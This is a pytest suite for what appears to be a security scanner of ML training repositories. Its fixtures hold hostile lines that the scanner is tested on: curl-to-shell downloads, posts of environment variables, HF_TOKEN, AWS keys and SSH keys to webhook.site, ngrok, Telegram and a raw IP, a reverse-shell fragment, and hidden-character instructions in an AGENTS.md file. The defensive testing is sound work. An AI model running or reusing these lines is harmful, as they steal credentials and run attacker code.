"""Checks of training code: attacks, what looks like one, and how a repository puts it together."""

from __future__ import annotations

import ast
import base64
import json
import re
import sys
from pathlib import Path

import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from weighbridge import api
from weighbridge.analysis import training_calls
from weighbridge.core.check import Audit, Domain
from weighbridge.core.evidence import AttackPath
from weighbridge.core.fact import Egress
from weighbridge.core.finding import Action, Finding, Gap
from weighbridge.core.format import Limits
from weighbridge.core.tree import Held
from weighbridge.engine.audit import run
from weighbridge.engine.examine import examine
from weighbridge.engine.ruleset import load
from weighbridge.formats.python_source import gather
from weighbridge.intel.source_calls import known
from weighbridge.intel.training_calls import lists
from weighbridge.reports.sarif import log

SHA = "0123456789abcdef0123456789abcdef01234567"
B64 = base64.b64encode(b"import os\nos.system('echo harmless')\n").decode()


def audited(files: dict[str, str]) -> tuple[list[Finding], list[Gap], Audit]:
    """What the checks of training code say of a repository."""
    rules, limits = load().of(Domain.SOURCE), Limits()
    blobs = {path: Held(path, text.encode()) for path, text in files.items()}
    examined = [examine(blob, rules, limits) for blob in blobs.values()]
    audit = Audit(
        files=tuple(e.record for e in examined),
        artifacts=(),
        facts=tuple(f for e in examined for f in e.facts),
        blobs=dict(blobs),
        repository=True,
    )
    own = {c.id: c for c in load().checks if c.control == "training-code"}
    findings = [f for e in examined for f in e.findings if f.check in own]
    gaps = [g for e in examined for g in e.gaps]
    for check in own.values():
        if check.reads is Audit:
            for result in check.run(audit):
                if isinstance(result, Gap):
                    gaps.append(result)
                else:
                    findings.append(msgspec.structs.replace(result, check=check.id))
    return findings, gaps, audit


def said(text: str, path: str = "train.py", **others: str) -> set[tuple[str, str]]:
    files = {path: text} | {name.replace("__", "."): body for name, body in others.items()}
    findings, _, _ = audited(files)
    return {(f.check, f.action.value) for f in findings if f.action is not Action.NOTE}


def notes(text: str, path: str = "train.py") -> set[str]:
    findings, _, _ = audited({path: text})
    return {f.check for f in findings if f.action is Action.NOTE}


LOAD, REVIEW_LOAD = ("unsafe-load", "block"), ("unsafe-load", "review")
CODE, INSTALL = ("fetched-code", "block"), ("run-time-install", "block")
REVIEW_INSTALL = ("run-time-install", "review")
LEAVES, REVIEW_LEAVES = ("data-leaves", "block"), ("data-leaves", "review")
TRUSTED, RECEIVED = ("remote-code-trusted", "review"), ("received-objects", "review")
CONCEALED = ("concealed-code", "block")


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        # what was downloaded is rebuilt
        ("import pickle, requests\nx = pickle.loads(requests.get('https://h.io/x').content)\n",
         LOAD),
        ("import pickle\nfrom urllib.request import urlopen as u\n"
         "def f(a):\n    with u(a) as r:\n        return pickle.load(r)\n", LOAD),
        ("import urllib.request, joblib\nurllib.request.urlretrieve('https://h.io/m', 'm.pkl')\n"
         "p = 'm.pkl'\nurllib.request.urlretrieve('https://h.io/m', p)\njoblib.load(p)\n", LOAD),
        ("import torch\nfrom huggingface_hub import hf_hub_download\n"
         "def get():\n    return hf_hub_download('other/model', 'm.pt')\n"
         "w = torch.load(get(), weights_only=False)\n", LOAD),
        ("import torch\nfrom torch.hub import load_state_dict_from_url as l\n"
         "l('https://h.io/m.pth')\n", LOAD),
        ("import torch.utils.model_zoo as z\nz.load_url('https://h.io/m.pth')\n", LOAD),
        ("import numpy as np, requests, io\nb = io.BytesIO(requests.get(U).content)\n"
         "np.load(b, allow_pickle=True)\n", LOAD),
        ("import dill, requests\nclass T:\n    def get(self):\n"
         "        self.raw = requests.get(U).content\n    def use(self):\n"
         "        return dill.loads(self.raw)\n", LOAD),
        ("import requests, pickle\nr = requests.get(U)\nwith open(P, 'wb') as f:\n"
         "    f.write(r.content)\nwith open(P, 'rb') as g:\n    pickle.load(g)\n", LOAD),
        ("import requests, pickle\nP = 'x.pkl'\ndef f():\n    r = requests.get(U)\n"
         "    p = P\n    with open(p, 'wb') as f:\n        f.write(r.content)\n"
         "    return pickle.load(open(p, 'rb'))\n", LOAD),
        ("import pandas as pd\npd.read_pickle('https://h.io/data.pkl')\n", LOAD),
        ("import urllib.request as u, pickle\ndef a():\n    u.urlretrieve('https://h.io', 'm.p')\n"
         "def b():\n    return pickle.load(open('m.p', 'rb'))\n", LOAD),
        ("import torch, requests, io\ntorch.load(io.BytesIO(requests.get(U).content))\n",
         REVIEW_LOAD),
        # a text that was downloaded is run
        ("import requests\nexec(requests.get('https://h.io/x.py').text)\n", CODE),
        ("import urllib.request as r\ncode = r.urlopen(U).read().decode()\neval(code)\n", CODE),
        ("import os\nos.system('curl http://h.io/x.sh | bash')\n", CODE),
        ("import subprocess\nsubprocess.run('curl -fsSL https://h.io/x.sh | sh', shell=True)\n",
         ("fetched-code", "review")),
        # what is installed while it runs
        ("import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install',"
         " 'git+https://github.com/other/x.git'])\n", INSTALL),
        ("import os\nos.system('pip install git+https://github.com/other/x@main')\n", INSTALL),
        ("import os\nos.system('pip install --index-url http://h.io/simple x==1')\n", INSTALL),
        ("import os\nos.system('pip install --trusted-host h.io x==1.0')\n", INSTALL),
        ("import subprocess\nC = 'pip install http://h.io/x.whl'\n"
         "subprocess.run(C.split())\n", INSTALL),
        ("from pip._internal import main\nmain(['install', 'git+https://github.com/other/x'])\n",
         INSTALL),
        ("import os\nos.system('pip install git+https://github.com/other/x@v1.2.0')\n",
         REVIEW_INSTALL),
        ("import os\nos.system('pip install --extra-index-url https://h.io/simple x==1')\n",
         REVIEW_INSTALL),
        ("import os\nos.system('pip install -U something')\n", REVIEW_INSTALL),
        ("import subprocess, sys\ndef f(p):\n"
         "    subprocess.run([sys.executable, '-m', 'pip', 'install', p])\n", REVIEW_INSTALL),
        ("import subprocess\ndef f(wheel_url):\n"
         "    subprocess.run(['pip3', 'install', wheel_url])\n", REVIEW_INSTALL),
        ("import subprocess\ndef f(wheel, name):\n"
         "    subprocess.run(['pip3', 'install', wheel, name])\n", REVIEW_INSTALL),
        # code of others
        ("from transformers import AutoModel as A\n"
         "A.from_pretrained('other/m', trust_remote_code=True)\n", TRUSTED),
        ("from transformers import pipeline\npipeline(model='other/m', trust_remote_code=True)\n",
         TRUSTED),
        ("N = 'other/m'\nimport transformers as t\n"
         "t.AutoModel.from_pretrained(N, revision='main', trust_remote_code=True)\n", TRUSTED),
        ("from datasets import load_dataset as l\nl('other/data', trust_remote_code=True)\n",
         TRUSTED),
        ("from datasets import load_dataset\nload_dataset('loader.py')\n", TRUSTED),
        ("import torch\ntorch.hub.load('other/repo', 'm')\n", TRUSTED),
        # what arrives is unpickled
        ("import zmq\ns = zmq.Context().socket(1)\ns.recv_pyobj()\n", RECEIVED),
        ("import socket, pickle\ndef f(c):\n    return pickle.loads(c.recv(99))\n", RECEIVED),
        ("import zmq, pickle\nasync def f(s):\n    m = await s.recv_multipart()\n"
         "    return pickle.loads(m[1])\n", RECEIVED),
        # what leaves
        ("import requests, os\nrequests.post('https://webhook.site/a', json=dict(os.environ))\n",
         LEAVES),
        ("import requests\nrequests.post('https://abc.oast.fun', data=open('/etc/hosts').read())\n",
         LEAVES),
        ("import requests, os\nrequests.get('https://webhook.site/a',"
         " headers={'x': os.environ['HF_TOKEN']})\n", LEAVES),
        ("import requests\ndef f(x):\n    requests.get(f'https://x.requestcatcher.com/?q={x}')\n",
         LEAVES),
        ("import requests, os\nt = os.environ['HF_TOKEN']\n"
         "def f():\n    requests.post('http://45.33.32.156/c', data={'t': t})\n", LEAVES),
        ("import requests\nU = 'https://discord.com/api/webhooks/1/abc'\n"
         "requests.post(U, json={'content': 'x'})\n", LEAVES),
        ("import requests, os\nrequests.post(f'https://api.telegram.org/bot{T}/sendMessage',"
         " json={'text': os.getenv('AWS_SECRET_ACCESS_KEY')})\n", LEAVES),
        ("import requests\nwith open('/home/app/.ssh/id_rsa') as f:\n    k = f.read()\n"
         "requests.post('https://a.ngrok-free.app/x', data=k)\n", LEAVES),
        ("import requests\ndef tell(token, text):\n"
         "    requests.post(f'https://api.telegram.org/bot{token}/sendMessage', json=text)\n",
         REVIEW_LEAVES),
        ("import requests\nrequests.get('https://pastebin.com/raw/x')\n", REVIEW_LEAVES),
        # what hides
        (f"import base64\nexec(base64.b64decode('{B64}'))\n", CONCEALED),
        ("import socket, subprocess, os\ndef go():\n    s = socket.socket()\n"
         "    os.dup2(s.fileno(), 0)\n    subprocess.call(['/bin/sh', '-i'])\n", CONCEALED),
        ("[c for c in ().__class__.__base__.__subclasses__()]\n", CONCEALED),
    ],
)  # fmt: skip
def test_what_training_code_must_not_do(text: str, expected: tuple[str, str]) -> None:
    assert expected in said(text)


@pytest.mark.parametrize(
    "text",
    [
        "import pickle\npickle.load(open('cache.pkl', 'rb'))\n",
        "import pickle, urllib.request as u\nu.urlretrieve('https://h.io/m', 'data.csv')\n"
        "pickle.load(open('cache.pkl', 'rb'))\n",
        "import torch\ntorch.load('model.pt')\n",
        "import torch, requests, io\n"
        "torch.load(io.BytesIO(requests.get(U).content), weights_only=True)\n",
        "import torch\nfrom huggingface_hub import hf_hub_download\n"
        f"torch.load(hf_hub_download('o/m', 'f', revision='{SHA}'), weights_only=False)\n",
        "import hashlib, pickle, requests\ndef get():\n    b = requests.get(U).content\n"
        "    if hashlib.sha256(b).hexdigest() != D:\n        raise ValueError\n    return b\n"
        "pickle.loads(get())\n",
        "import json, requests\njson.loads(requests.get(U).text)\n",
        "import torch\nfrom torch.hub import load_state_dict_from_url\n"
        "load_state_dict_from_url('https://h.io/m-0a1b2c3d.pth', check_hash=True)\n",
        "import pickle\ndef f(conn):\n    return pickle.loads(conn.recv(9))\n",
        "import yaml, requests\nyaml.load(requests.get(U).text, Loader=yaml.SafeLoader)\n",
        "def f(model):\n    model.eval()\n    return model.compile()\n",
        "import re\nre.compile('x')\n",
        "import ast, requests\nast.literal_eval(requests.get(U).text)\n",
        "print('pip install git+https://github.com/other/x')\n",
        "raise ImportError('run `pip install -U other`, see http://h.io')\n",
        "import subprocess\nsubprocess.run(['git', 'rev-parse', 'HEAD'])\n",
        "import os\nos.system('pip install x==1.2.3')\n",
        f"import os\nos.system('pip install git+https://github.com/o/x@{SHA}')\n",
        "import os\nos.system('pip install -r requirements.txt')\n",
        "import os\nos.system('pip install -e .')\n",
        "import subprocess\nsubprocess.run(['uv', 'pip', 'install', '--dry-run', 'pip'])\n",
        "import subprocess\ndef f(whl_path):\n"
        "    subprocess.run(['pip3', 'install', whl_path, '--no-dependencies'])\n",
        "import os\nos.system('pip install torch==2.6.0 "
        "--extra-index-url https://download.pytorch.org/whl/cu124')\n",
        "from transformers import AutoModel\n"
        f"AutoModel.from_pretrained('o/m', trust_remote_code=True, code_revision='{SHA}')\n",
        "from transformers import AutoModel\nAutoModel.from_pretrained('gpt2')\n",
        "def load(name, trust_remote_code=False):\n"
        "    return M.from_pretrained(name, trust_remote_code=trust_remote_code)\n",
        "def f(a):\n    return M.from_pretrained(a.name, trust_remote_code=True)\n",
        f"import torch\ntorch.hub.load('o/r:{SHA}', 'm')\n",
        "import torch\ntorch.hub.load('.', 'm', source='local')\n",
        "from datasets import load_dataset\nload_dataset('json', data_files='x.json')\n",
        "import requests\nrequests.post('https://api.openai.com/v1/x', json={'a': 1})\n",
        "import requests\nrequests.post('http://127.0.0.1:8000/x', json={'a': 1})\n",
        "import requests\nrequests.post('http://10.0.0.7/x', json={'a': 1})\n",
        "import requests, os\nrequests.get('https://huggingface.co/api/whoami', "
        "headers={'authorization': os.environ['HF_TOKEN']})\n",
        "import requests\nrequests.get('https://profile.io/x')\n",
        "import zmq\ns.recv_json()\n",
        "import base64\ndef f(x):\n    return base64.b64decode(x)\n",
        "import os\nbody = []\nbody.append('1')\neval('(' + ''.join(body) + ')')\n",
        "import wandb\nwandb.init(project='x')\n",
        "class A:\n    def exec(self, x):\n        return x\nA().exec('1')\n",
    ],
)  # fmt: skip
def test_what_real_training_code_does_is_quiet(text: str) -> None:
    assert said(text) == set()


@pytest.mark.parametrize(
    ("declared", "expected"),
    [
        ({"pyproject__toml": "[project]\ndependencies = ['torch>=2.6']\n"}, None),
        ({"pyproject__toml": "[project]\ndependencies = ['torch>=2.1']\n"}, "review"),
        ({"requirements__txt": "torch==2.1.0\n"}, "block"),
        ({"setup__py": "deps = ['torch>=1.8,<2.4', 'x']\n"}, "block"),
        ({"requirements__txt": "# torch==1.0\ntorchvision==0.1\n"}, "review"),
        ({"pyproject__toml": "[tool.poetry.dependencies]\ntorch = '^2.7'\n"}, None),
    ],
)
def test_the_torch_that_is_declared_decides(declared: dict[str, str], expected: str | None) -> None:
    text = "import torch, requests, io\ntorch.load(io.BytesIO(requests.get(U).content))\n"
    found = {action for check, action in said(text, **declared) if check == "unsafe-load"}
    assert found == ({expected} if expected else set())


def test_tests_and_examples_are_one_step_lower_and_counted_apart() -> None:
    text = "import os\nos.system('pip install git+https://github.com/other/x')\n"
    assert said(text, "examples/a.py") == {REVIEW_INSTALL}
    assert said(text, "tests/test_a.py") == {REVIEW_INSTALL}
    loads = "M.from_pretrained('o/a')\n"
    findings, _, _ = audited({"train.py": loads, "tests/test_a.py": loads + "\n" + loads})
    loose = [f for f in findings if f.check == "loose-revision"]
    assert loose[0].message.startswith("3 loads of 1 repositories")
    assert "2 of them in tests" in loose[0].message
    assert loose[0].at.path == "train.py"


def test_a_repository_may_install_itself() -> None:
    text = "import os\nos.system('pip install git+https://github.com/me/mine.git')\n"
    own = "[project]\nname = 'mine'\nurls = { Homepage = 'https://github.com/me/mine' }\n"
    assert said(text) == {INSTALL}
    assert said(text, pyproject__toml=own) == set()


def test_a_finding_names_its_line() -> None:
    findings, _, _ = audited({"train.py": "import requests\n\nexec(requests.get(U).text)\n"})
    found = next(f for f in findings if f.check == "fetched-code")
    assert (found.at.path, found.at.line) == ("train.py", 3)


def ways(files: dict[str, str]) -> dict[str, AttackPath]:
    """The path of each finding that is more than a note, by its check."""
    found = {}
    for finding in audited(files)[0]:
        if finding.action is not Action.NOTE:
            (path,) = [e for e in finding.evidence if isinstance(e, AttackPath)]
            found[finding.check] = path
    return found


IN_COMBINATION = """\
import os, requests, torch

def fetch(url):
    answer = requests.get("https://weights.host.net/m.pt")
    with open("m.pt", "wb") as file:
        file.write(answer.content)
    return "m.pt"

def train():
    state = torch.load(fetch("m"), weights_only=False)
    model.load_state_dict(state)
    model.push_to_hub("me/m", token=os.environ["HF_TOKEN"])
"""


def test_a_download_is_followed_to_what_is_within_its_reach() -> None:
    path = ways({"train.py": IN_COMBINATION})["unsafe-load"]
    assert [(s.at.line, s.label) for s in path.steps if s.at is not None] == [
        (4, "whoever controls weights.host.net"),
        (4, "get fetches https://weights.host.net/m.pt"),
        (6, "writes it to m.pt"),
        (10, "fetch() hands it on"),
        (10, "torch.load runs what the file says"),
        (12, "in reach: HF_TOKEN"),
        (12, "in reach: what is pushed to a hub by push_to_hub"),
    ]
    assert (path.steps[0].role, path.steps[-1].role) == ("source", "sink")


def test_what_is_not_there_is_no_step() -> None:
    text = IN_COMBINATION.replace("    model.push_to_hub", "    # model.push_to_hub")
    labels = [s.label for s in ways({"train.py": text})["unsafe-load"].steps]
    assert labels[-1] == "torch.load runs what the file says"
    elsewhere = ways({"train.py": text, "push.py": "m.push_to_hub('me/m')\n"})
    assert [s.label for s in elsewhere["unsafe-load"].steps] == labels


@pytest.mark.parametrize(
    ("path", "text", "check", "first", "last"),
    [
        ("a.py", "import os\nos.system('pip install git+https://github.com/other/x')\n",
         "run-time-install", "whoever may write to github.com/other/x", None),
        ("a.py", "import os\nos.system('pip install --trusted-host h x==1')\n",
         "run-time-install", "whoever is on the way to the index", "installing it runs its code"),
        ("a.py", "import torch\ntorch.hub.load('other/repo:main', 'm')\ntorch.save(m, 'x')\n",
         "remote-code-trusted", "whoever may write to other/repo",
         "in reach: the weights written by torch.save"),
        ("a.py", "import requests, os\nrequests.post('https://webhook.site/a', json=os.environ)\n",
         "data-leaves", "reads the whole environment", "whoever set up webhook.site has it"),
        ("a.py", "import zmq\ns.recv_pyobj()\n", "received-objects", "whoever reaches the port",
         "recv_pyobj runs what the pickle says"),
        ("a.py", "import os\nos.system('curl http://h.io/x | sh')\n", "fetched-code",
         "whoever controls h.io, or the way to it (http is not protected)",
         "it is run without being compared with anything"),
        ("a.py", f"import base64\nx = '{B64}'\nexec(base64.b64decode(x))\n", "concealed-code",
         None, None),
        ("setup.py", "import urllib.request\nurllib.request.urlopen('https://h.io/x')\n",
         "build-hook", "whoever controls h.io", "building the package fetches it"),
        ("a.sh", "curl https://h.io/x | sh\n", "build-script", "whoever controls h.io", None),
        ("AGENTS.md", "a\u202eb\n", "agent-configuration", "whoever changes this file", None),
    ],
)  # fmt: skip
def test_each_finding_shows_its_way(
    path: str, text: str, check: str, first: str | None, last: str | None
) -> None:
    steps = ways({path: text})[check].steps
    assert len(steps) >= 2
    lines = text.count("\n")
    assert all(s.at and s.at.path == path and 1 <= (s.at.line or 0) <= lines for s in steps)
    assert first in (None, steps[0].label)
    assert last in (None, steps[-1].label)


def test_every_host_is_in_the_inventory() -> None:
    text = (
        '"""See https://documentation.org/x."""\n'
        "import requests, wandb\n"
        "# https://comment.org\n"
        "B = 'https://api.service.io/v1'\n"
        "requests.post(B + '/x', json={})\n"
        "requests.get(f'https://data.host.net/{name}')\n"
        "wandb.init()\n"
        "message = 'see https://only.named.org/page'\n"
        "requests.get('http://localhost:80'); requests.get('https://example.com')\n"
    )
    _, _, audit = audited({"train.py": text})
    hosts = {(f.host, f.how, f.sends) for f in audit.facts if isinstance(f, Egress)}
    assert hosts == {
        ("api.service.io", "calls", True),
        ("data.host.net", "calls", False),
        ("api.wandb.ai", "reports", True),
        ("only.named.org", "names", False),
    }


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("import urllib.request\nurllib.request.urlretrieve('https://h.io/lib.so', 'l.so')\n",
         "review"),
        ("import subprocess\nsubprocess.check_output(['git', 'describe'])\n", "note"),
        ("from setuptools import setup\nsetup(name='x')\n", None),
    ],
)  # fmt: skip
def test_what_building_does(text: str, expected: str | None) -> None:
    findings, _, _ = audited({"setup.py": text})
    found = {f.action.value for f in findings if f.check == "build-hook"}
    assert found == ({expected} if expected else set())


@pytest.mark.parametrize(
    ("path", "text", "expected"),
    [
        (".claude/settings.json", '{"permissions": {"allow": ["Bash(*)"]}}', "review"),
        (".claude/settings.json", '{"permissions": {"allow": ["Bash(make test)"]}}', "note"),
        ("AGENTS.md", "Run the tests.\n", "note"),
        ("AGENTS.md", "Run the tests." + "".join(chr(0xE0000 + ord(c)) for c in "leak"), "review"),
        (".cursor/rules/x.mdc", "a\u202eb\n", "review"),
        ("README.md", "a\u202eb\n", None),
    ],
)
def test_what_assistants_are_told(path: str, text: str, expected: str | None) -> None:
    findings, _, _ = audited({path: text})
    found = [f.action.value for f in findings if f.check == "agent-configuration"]
    assert (expected in found) if expected else not found


def test_a_repository_is_audited_as_one(tmp_path: Path) -> None:
    """The target itself, and the part beside a model: no check of model code speaks of it."""
    source = tmp_path / "source"
    source.mkdir()
    (source / "pyproject.toml").write_text("[project]\nname = 'x'\n")
    (source / "train.py").write_text("import requests\nexec(requests.get(U).text)\n")
    audit = run(source)
    found = {(f.check, f.at.path) for f in audit.findings if f.action is Action.BLOCK}
    assert found == {("fetched-code", "train.py")}
    model = tmp_path / "model"
    model.mkdir()
    (model / "modeling_x.py").write_text("import requests\nexec(requests.get(U).text)\n")
    alone = run(model)
    blocks = {f.check for f in alone.findings if f.action is Action.BLOCK}
    assert blocks == {"source-hides-code"}
    assert any(g.controls == ("training-code",) for g in alone.gaps)


def test_sarif_shows_the_way_line_by_line(tmp_path: Path) -> None:
    """In a script by regions, in a notebook by cells and lines within them."""
    body = "import requests\n\nexec(requests.get('https://example.com/x.py').text)\n"
    cell = {"cell_type": "code", "metadata": {}, "outputs": [], "source": body}
    book = {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [cell]}
    (tmp_path / "pyproject.toml").write_text("[project]\nname = 'x'\n")
    (tmp_path / "train.py").write_text(body)
    (tmp_path / "train.ipynb").write_text(json.dumps(book))
    results = log(api.audit(tmp_path))["runs"][0]["results"]
    blocks = [r for r in results if r["ruleId"] == "fetched-code" and "codeFlows" in r]
    lines: dict[str, list[int]] = {}
    for result in blocks:
        for step in result["codeFlows"][0]["threadFlows"][0]["locations"]:
            place = step["location"].get("physicalLocation")
            if place is None:
                continue
            inner = step["location"].get("logicalLocations", [{}])[0].get("properties", {})
            line = place.get("region", {}).get("startLine", inner.get("line"))
            lines.setdefault(place["artifactLocation"]["uri"], []).append(line)
    assert set(lines) == {"train.py", "train.ipynb"}
    assert all(3 in found and None not in found for found in lines.values())


def test_a_model_is_no_repository(tmp_path: Path) -> None:
    (tmp_path / "pyproject.toml").write_text("[project]\n")
    (tmp_path / "config.json").write_text(json.dumps({"model_type": "x"}))
    (tmp_path / "modeling_x.py").write_text("import os\nos.system('id')\n")
    blocks = {f.check for f in run(tmp_path).findings if f.action is Action.BLOCK}
    assert blocks == {"source-starts-program"}


@given(st.text(max_size=300))
@settings(max_examples=60, deadline=3000)
def test_any_text_is_read(text: str) -> None:
    audited({"train.py": "import requests, torch, os\n" + text})


@pytest.mark.parametrize(
    "text",
    [
        "import pickle\n" + "a = b = c = pickle.load(a)\n" * 4_000,
        "import requests\nx = requests.get(" + "(" * 80 + "u" + ")" * 80 + ")\n",
        "import torch\nx = torch.load(" + "+".join(["'a'"] * 3_000) + ")\n",
        "import os\nos.system(" + "'a' % " * 300 + "b)\n",
        "import requests\n" + "".join(f"def f{n}():\n    return f{n + 1}()\n" for n in range(900)),
        "import os\nos.system('" + "$(" * 900 + "')\n",
    ],
)
def test_hostile_source_ends_soon(text: str) -> None:
    findings, _, _ = audited({"train.py": text})
    assert not [f for f in findings if f.action is Action.BLOCK]


def test_the_same_thing_in_many_files_is_one_thing_to_decide() -> None:
    def files(number: int, folder: str = "configs") -> dict[str, str]:
        line = "AutoModel.from_pretrained('org{}/m', trust_remote_code=True)\n"
        return {
            f"{folder}/c{n}.py": "from transformers import AutoModel\n" + line.format(n)
            for n in range(number)
        }

    def reviews(made: dict[str, str]) -> list[Finding]:
        return [f for f in audited(made)[0] if f.action is Action.REVIEW]

    assert len(reviews(files(10))) == 10
    (one,) = reviews(files(11) | files(3, "tests"))
    assert "(11 times in 11 files)" in one.message
    assert "configs/c1.py" in str(one.evidence)
    assert "tests/" not in str(one.evidence)
    again = reviews({"configs/c0.py": "# moved\n" + files(11)["configs/c0.py"], **files(11)})
    assert one.symbol == again[0].symbol


TORCH_LOAD = "m = torch.load({}, weights_only=False)\n"
FETCH = "import os, requests, shutil, subprocess, torch\nimport urllib.request as u\n"
FETCH += "from pathlib import Path\nD = 'w'\nA = 'http://h.io/m.pt'\n"


@pytest.mark.parametrize(
    ("fetch", "loaded"),
    [
        ("u.urlretrieve(A, 'm.pt')", "'m.pt'"),
        ("p = 'm.pt'\nu.urlretrieve(A, p)", "p"),
        ("open('m.pt', 'wb').write(requests.get(A).content)", "'m.pt'"),
        ("Path('m.pt').write_bytes(requests.get(A).content)", "Path('m.pt')"),
        (
            "with u.urlopen(A) as r, open('m.pt', 'wb') as f:\n    shutil.copyfileobj(r, f)",
            "'m.pt'",
        ),
        ("subprocess.run(['wget', A])", "'m.pt'"),
        ("os.system('wget -q http://h.io/x -O w/m.pt')", "f'{D}/m.pt'"),
        ("subprocess.run('curl -L http://h.io/x > m.pt', shell=True)", "'m.pt'"),
        ("subprocess.check_call(['curl', '-o', 'w/m.pt', A])", "os.path.join(D, 'm.pt')"),
        ("torch.hub.download_url_to_file(A, os.path.join(D, 'm.pt'))", "'./w/m.pt'"),
        ("u.urlretrieve(A, Path(D) / 'm.pt')", "Path('w') / 'm.pt'"),
    ],
)
def test_a_file_that_was_fetched_is_known_by_its_path(fetch: str, loaded: str) -> None:
    text = FETCH + fetch + "\n" + TORCH_LOAD.format(loaded)
    assert LOAD in said(text)
    assert said(FETCH + fetch + "\n" + TORCH_LOAD.format("'other.pt'")).isdisjoint({LOAD})


KEY = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b"
CREDENTIAL = ("literal-credential", "review")


@pytest.mark.parametrize(
    "text",
    [
        f"import wandb\nwandb.login(key='{KEY}')\n",
        f"import wandb\nK = '{KEY}'\nwandb.login(key=K)\n",
        f"import os\nos.environ['WANDB_API_KEY'] = '{KEY}'\n",
        f"import os\nos.environ.setdefault('COMET_API_KEY', '{KEY[:32]}')\n",
        "from huggingface_hub import HfApi\n"
        "HfApi(token='hf_' 'qWeRtYuIoPaSdFgHjKlZxCvBnM01986zZq')\n",
        "import openai\nopenai.api_key = 'sk-Qw8rTy6uIoP3aSdFgH1jKlZxCvB9nM0q'\n",
    ],
)
def test_a_credential_in_the_code_is_found_and_not_shown(text: str) -> None:
    findings, _, _ = audited({"train.py": text})
    assert CREDENTIAL in {(f.check, f.action.value) for f in findings}
    whole = repr(findings)
    assert all(secret not in whole for secret in (KEY, KEY[:32], "YuIoPaSdFg", "Qw8rTy6uIoP3"))


@pytest.mark.parametrize(
    "text",
    [
        "import wandb\nwandb.login(key='YOUR_KEY')\n"
        "wandb.login(key='your_wandb_api_key_goes_here1')\n",
        "from huggingface_hub import login\nlogin(token='<token>')\n"
        "login('hf_xxxxxxxxxxxxxxxxxxxx')\n",
        "import os\nos.environ['HF_TOKEN'] = 'hf_YOUR_TOKEN_HERE_123456'\n",
        "import os\nos.environ['X_API_KEY'] = os.environ['Y_API_KEY']\n",
        "m = f(token='meta-llama/Llama-2-7b-chat-hf', api_key='EMPTY')\n",
        f"m = load('some/model', revision='{KEY}')\n",
        "p(token='my-model-v2-instruct-2024')\n",
        "import posthog\nposthog.api_key = 'phc_Q44wUK9R1J6HYVdfJarTEPqVAoRPJzMXzFcj8PIrJgQ'\n",
    ],
)
def test_what_stands_for_a_credential_is_none(text: str) -> None:
    assert CREDENTIAL not in said(text)


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ("def first[T](x: T) -> T:\n    return x\n", "type parameters of Python 3.12"),
        ("type Pair = tuple[int, int]\n", "type parameters of Python 3.12"),
        ("x = f'{a['b']}'\n", "an f-string of Python 3.12"),
        ("print 'a'\n", "is not Python 3 as 3."),
    ],
)
def test_source_that_is_newer_is_a_gap_that_says_so(text: str, why: str) -> None:
    _, gaps, _ = audited({"train.py": text})
    newer = "of Python" in why and sys.version_info >= (3, 12)
    assert gaps == [] if newer else why in " ".join(g.message for g in gaps)


@pytest.mark.parametrize(
    "name",
    sorted(
        {*lists().loaders, *lists().telemetry, *lists().downloads, "builtins.eval", "builtins.exec"}
        | {n for effect in ("execute", "connect", "send") for n in known(effect)}
    ),
)
def test_no_listed_name_is_passed_over_at_a_glance(
    name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """What is told of a file by the words in it loses nothing of what its tree says."""
    module, _, last = name.rpartition(".")
    text = f"from {module} import {last} as x\nu = 'a'\nx(u)\nx('pip', 'install', u)\n"
    tree = ast.parse(text)
    told = training_calls.read(text, tree, gather(tree), "train.py")
    monkeypatch.setattr(training_calls, "_REBUILDS", re.compile(""))
    assert told == training_calls.read(text, tree, gather(tree), "train.py")
